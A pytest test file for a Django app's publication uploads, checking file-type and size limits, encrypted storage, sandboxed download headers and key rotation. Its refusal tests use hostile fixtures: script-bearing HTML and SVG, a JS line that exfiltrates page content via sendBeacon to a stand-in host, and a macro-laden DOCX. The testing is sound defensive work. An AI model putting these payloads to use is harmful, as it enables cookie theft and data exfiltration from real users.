"""Publication files: only documents people publish, checked against their name, at most
10 MB, stored encrypted and served as a sandboxed download (issue 17, finding 7)."""

from __future__ import annotations

import datetime
import io
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook

from donghanh.audit.models import AuditEntry
from donghanh.core import filetypes
from donghanh.organisations.roles import Role
from donghanh.programmes.outreach import files
from donghanh.programmes.outreach.models import Publication
from donghanh.programmes.outreach.services import publication_add, publication_files_rotate
from donghanh.programmes.tests.conftest import NOBODY
from donghanh.testing import factories
from donghanh.testing.clients import signed_in_client

MembershipFactory: Any = factories.MembershipFactory

PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 32
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 32
HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
JS = b"fetch('/app/').then(r => r.text()).then(t => navigator.sendBeacon('//x', t))"


def _zip(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


DOCX = _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})


def _xlsx() -> bytes:
    buffer = io.BytesIO()
    Workbook().save(buffer)
    return buffer.getvalue()


@pytest.fixture(autouse=True)
def _private_media(settings: Any, tmp_path: Path) -> Path:
    settings.MEDIA_ROOT = tmp_path / "private"
    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path / "uploads")
    (tmp_path / "uploads").mkdir()
    return settings.MEDIA_ROOT


@pytest.fixture
def officer(project):
    member = MembershipFactory(
        organisation=project.implementing_organisation, role=Role.PROGRAMME_OFFICER
    )
    return signed_in_client(member.user)


def _page(project) -> str:
    return reverse(
        "programmes:publications",
        kwargs={"org": project.implementing_organisation.slug, "project_id": project.pk},
    )


def _download(project, publication) -> str:
    return reverse(
        "programmes:evidence",
        kwargs={
            "org": project.implementing_organisation.slug,
            "project_id": project.pk,
            "kind": "publication",
            "record_id": publication.pk,
        },
    )


def _post(client, project, name: str, content: bytes, **extra: Any):
    return client.post(
        _page(project),
        {
            "title": "Sổ tay phòng chống mua bán người",
            "kind": "handbook",
            "published_on": "2026-03-02",
            "url": "",
            "file": SimpleUploadedFile(name, content),
        },
        **extra,
    )


def _written(tmp_path: Path) -> list[Path]:
    """Every file under the private media folder and the upload folder."""
    return [p for p in tmp_path.rglob("*") if p.is_file()]


# Refused, and nothing written -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content"),
    [
        pytest.param("so-tay.html", HTML, id="html"),
        pytest.param("logo.svg", SVG, id="svg"),
        pytest.param("app.js", JS, id="js"),
        pytest.param("bao-cao.pdf", HTML, id="html-renamed-as-pdf"),
        pytest.param("bao-cao.docx", _zip({"word/document.xml": HTML}), id="zip-not-docx"),
        pytest.param(
            "bao-cao.docx",
            _zip(
                {
                    "[Content_Types].xml": b"<Types/>",
                    "word/document.xml": b"<w:document/>",
                    "word/vbaProject.bin": b"macro",
                }
            ),
            id="docx-with-macros",
        ),
        pytest.param("anh.png", PDF, id="pdf-renamed-as-png"),
    ],
)
def test_other_types_are_refused_and_nothing_is_written(officer, project, tmp_path, name, content):
    audit_rows = AuditEntry.objects.count()

    response = _post(officer, project, name, content, HTTP_ACCEPT_LANGUAGE="vi")

    assert response.status_code == 200
    assert response.context["form"].errors["file"]
    assert not Publication.objects.exists()
    assert _written(tmp_path) == []
    assert AuditEntry.objects.count() == audit_rows


def test_a_40_mb_upload_is_refused_in_vietnamese_and_nothing_is_written(officer, project, tmp_path):
    content = PDF + b"0" * (40 * 1024 * 1024)

    response = _post(officer, project, "bao-cao.pdf", content, HTTP_ACCEPT_LANGUAGE="vi")

    assert response.status_code == 200
    [message] = response.context["form"].errors["file"]
    assert "tối đa 10 MB" in message and "40,0 MB" in message
    assert not Publication.objects.exists()
    assert _written(tmp_path) == []  # not even a temporary file of the upload


def test_the_service_refuses_too_large_files_before_reading_them(project):
    class Huge:
        name = "bao-cao.pdf"
        size = files.max_bytes() + 1

        def read(self) -> bytes:
            raise AssertionError("a file over the limit is not read")

    with pytest.raises(Exception) as refused:
        publication_add(
            project=project,
            title="Báo cáo",
            kind="report",
            published_on=datetime.date(2026, 3, 2),
            file=Huge(),  # type: ignore[arg-type]
            actor=NOBODY,
        )
    assert refused.value.error_dict["file"][0].code == "too_large"  # type: ignore[attr-defined]


# Accepted, encrypted and served as a sandboxed download -------------------------------------


def test_a_real_pdf_is_stored_encrypted_and_served_as_a_sandboxed_download(
    officer, project, tmp_path
):
    response = _post(officer, project, "bao-cao-2026.pdf", PDF)

    assert response.status_code == 302
    publication = Publication.objects.get()
    assert publication.file_type == filetypes.PDF
    assert publication.file_name == "bao-cao-2026.pdf"
    assert publication.file_size == len(PDF)
    [stored] = _written(tmp_path)
    assert stored.name == publication.stored_name
    on_disk = stored.read_bytes()
    assert on_disk != PDF and b"%PDF" not in on_disk and b"Catalog" not in on_disk
    assert stored.stat().st_mode & 0o077 == 0

    download = officer.get(_download(project, publication))

    assert download.status_code == 200
    assert download.content == PDF
    assert download["Content-Type"] == "application/pdf"
    assert download["Content-Disposition"].startswith("attachment;")
    assert 'filename="bao-cao-2026.pdf"' in download["Content-Disposition"]
    assert download["X-Content-Type-Options"] == "nosniff"
    directives = {d.strip() for d in download["Content-Security-Policy"].split(";")}
    assert directives == {"sandbox", "default-src 'none'"}
    assert "no-store" in download["Cache-Control"]


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        pytest.param("so-tay.docx", DOCX, filetypes.DOCX, id="docx"),
        pytest.param("so-lieu.xlsx", _xlsx(), filetypes.XLSX, id="xlsx"),
        pytest.param("ap-phich.png", PNG, filetypes.PNG, id="png"),
        pytest.param("ap-phich.JPG", JPEG, filetypes.JPEG, id="jpeg"),
    ],
)
def test_documents_and_images_people_publish_are_accepted(project, name, content, kind):
    publication = publication_add(
        project=project,
        title="Ấn phẩm",
        kind="leaflet",
        published_on=datetime.date(2026, 3, 2),
        file=SimpleUploadedFile(name, content),
        actor=NOBODY,
    )
    assert publication.file_type == kind
    assert files.read(publication.stored_name) == content


def test_a_publication_without_a_file_still_works(officer, project, tmp_path):
    response = officer.post(
        _page(project),
        {
            "title": "Video",
            "kind": "video",
            "published_on": "2026-03-02",
            "url": "https://example.org/video",
        },
    )
    assert response.status_code == 302
    publication = Publication.objects.get()
    assert not publication.has_file
    assert officer.get(_download(project, publication)).status_code == 404
    assert _written(tmp_path) == []


def test_a_data_key_rotation_re_encrypts_publication_files(project, settings):
    from cryptography.fernet import Fernet

    publication = publication_add(
        project=project,
        title="Báo cáo",
        kind="report",
        published_on=datetime.date(2026, 3, 2),
        file=SimpleUploadedFile("bao-cao.pdf", PDF),
        actor=NOBODY,
    )
    path = Path(settings.MEDIA_ROOT) / files.FOLDER / publication.stored_name
    before = path.read_bytes()
    settings.DATA_ENCRYPTION_KEYS = [Fernet.generate_key().decode(), *settings.DATA_ENCRYPTION_KEYS]

    assert publication_files_rotate(actor=NOBODY) == (1, 1)
    assert path.read_bytes() != before
    settings.DATA_ENCRYPTION_KEYS = settings.DATA_ENCRYPTION_KEYS[:1]
    assert files.read(publication.stored_name) == PDF
    assert publication_files_rotate(actor=NOBODY) == (1, 0)


def test_the_rotation_step_is_registered():
    from donghanh.core.key_rotation import key_rotation_steps

    assert "programme publication files" in {step.name for step in key_rotation_steps()}
